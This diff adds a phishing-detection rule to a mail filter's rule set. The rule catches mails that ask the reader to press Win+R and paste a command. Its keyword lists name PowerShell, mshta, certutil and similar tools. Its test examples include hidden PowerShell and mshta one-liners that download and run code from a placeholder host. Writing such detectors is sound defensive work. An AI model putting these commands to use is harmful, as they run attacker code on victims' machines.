@@ -270,5 +270,26 @@ extension ShippedRules {
     [[rule.example]]
     matches = false
     mail = ["", "Please upgrade the webmail package: http://example.com/"]
+
+    [[rule]]
+    id = "phishing.paste-command"
+    when = [
+      'body.text contains ["win+r", "win + r", "windows+r", "windows + r", "windows key + r", "windowsキー+r", "windowsキー + r", "windowsキーとr", "ファイル名を指定して実行"]',
+      'body.text contains ["powershell", "mshta", "msiexec", "rundll32", "conhost", "certutil", "cmd /c", "curl "]',
+      'body.text contains ["http:", "https:", "iex", "iwr", "-enc", "hidden"]',
+    ]
+    weight = 10
+    class = "phishing"
+    ja = "コマンドを貼り付けて実行させようとしています。"
+    en = "It has the reader paste a command and run it."
+    [[rule.example]]
+    matches = true
+    mail = ["", "Press Win+R, paste this and press Enter:", "powershell -w hidden -c iex(iwr https://example.com/a)"]
+    [[rule.example]]
+    matches = true
+    mail = ["Content-Type: text/plain; charset=utf-8", "", "Windowsキー+Rを押し、次を貼り付けてください。", "mshta https://example.com/a"]
+    [[rule.example]]
+    matches = false
+    mail = ["", "Press Win+R, type cmd and tell us what ipconfig says. See https://example.com/"]
     """#
 }
